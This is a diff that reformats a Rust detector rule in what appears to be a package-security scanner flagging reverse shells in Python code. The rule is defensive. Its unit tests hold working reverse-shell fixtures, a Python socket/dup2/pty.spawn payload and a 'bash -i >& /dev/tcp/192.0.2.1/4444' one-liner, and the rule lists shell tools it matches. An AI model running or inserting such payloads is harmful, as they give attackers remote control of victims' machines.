@@ -27,9 +27,17 @@ static ONELINER: LazyLock<Regex> = LazyLock::new(|| {
 
 fn shell_words(t: &str) -> bool {
     let l = t.to_ascii_lowercase();
-    ["/bin/sh", "/bin/bash", "/bin/zsh", "cmd.exe", "powershell", "bash -i", "sh -i"]
-        .iter()
-        .any(|w| l.contains(w))
+    [
+        "/bin/sh",
+        "/bin/bash",
+        "/bin/zsh",
+        "cmd.exe",
+        "powershell",
+        "bash -i",
+        "sh -i",
+    ]
+    .iter()
+    .any(|w| l.contains(w))
         || l.trim() == "sh"
         || l.trim() == "bash"
 }
@@ -37,20 +45,31 @@ fn shell_words(t: &str) -> bool {
 pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
     if let Some(facts) = cx.facts {
         let connect = facts.calls.iter().any(|c| {
-            matches!(c.name.as_str(), "socket.create_connection" | "socket.socket().connect" | "socket.socket().connect_ex")
-                || c.method() == "connect" && facts.imports.contains_key("socket")
+            matches!(
+                c.name.as_str(),
+                "socket.create_connection"
+                    | "socket.socket().connect"
+                    | "socket.socket().connect_ex"
+            ) || c.method() == "connect" && facts.imports.contains_key("socket")
         });
         if connect {
             let dup2 = facts.calls.iter().find(|c| c.name == "os.dup2");
             let shell = facts.calls.iter().find(|c| {
                 c.name == "pty.spawn"
                     || c.is_process()
-                        && (c.args.first().and_then(|a| a.text()).is_some_and(|t| shell_words(&t))
+                        && (c
+                            .args
+                            .first()
+                            .and_then(|a| a.text())
+                            .is_some_and(|t| shell_words(&t))
                             || c.kwargs.iter().any(|(k, a)| {
-                                matches!(k.as_str(), "stdin" | "stdout") && a.dotted.is_none() && a.text().is_none()
+                                matches!(k.as_str(), "stdin" | "stdout")
+                                    && a.dotted.is_none()
+                                    && a.text().is_none()
                             }))
             });
-            let redirected = shell.is_some_and(|s| s.kwargs.iter().any(|(k, _)| k == "stdin" || k == "stdout"));
+            let redirected =
+                shell.is_some_and(|s| s.kwargs.iter().any(|(k, _)| k == "stdin" || k == "stdout"));
             if let Some(sh) = shell {
                 if dup2.is_some() || redirected {
                     let line = dup2.map(|d| d.line).unwrap_or(sh.line).min(sh.line);
@@ -67,14 +86,28 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
         }
         for s in &facts.strings {
             if !s.docstring && ONELINER.is_match(&s.text) {
-                out.emit(&INFO, s.ctx.pick(Severity::Critical, Severity::Critical), Confidence::High, s.line, "reverse-shell one-liner", s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref()));
+                out.emit(
+                    &INFO,
+                    s.ctx.pick(Severity::Critical, Severity::Critical),
+                    Confidence::High,
+                    s.line,
+                    "reverse-shell one-liner",
+                    s.decoded_via.map(|_| s.text.as_str()).or(s.note.as_deref()),
+                );
             }
         }
     }
     if cx.raw_pass || cx.kind == FileKind::Script {
         for (n, line) in cx.text_lines() {
             if !line.trim_start().starts_with('#') && ONELINER.is_match(line) {
-                out.emit(&INFO, Severity::High, Confidence::Medium, n, "reverse-shell one-liner in a shipped script", None);
+                out.emit(
+                    &INFO,
+                    Severity::High,
+                    Confidence::Medium,
+                    n,
+                    "reverse-shell one-liner in a shipped script",
+                    None,
+                );
             }
         }
     }
@@ -88,13 +121,19 @@ mod tests {
     #[test]
     fn classic_python_reverse_shell() {
         let src = "import socket, os, pty\ndef r():\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('192.0.2.1', 4444))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')\n";
-        assert_eq!(worst("reverse-shell", "pkg/a.py", src), Some(Severity::Critical));
+        assert_eq!(
+            worst("reverse-shell", "pkg/a.py", src),
+            Some(Severity::Critical)
+        );
     }
 
     #[test]
     fn bash_dev_tcp_string() {
         let src = "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n";
-        assert_eq!(worst("reverse-shell", "pkg-1.0/setup.py", src), Some(Severity::Critical));
+        assert_eq!(
+            worst("reverse-shell", "pkg-1.0/setup.py", src),
+            Some(Severity::Critical)
+        );
     }
 
     #[test]
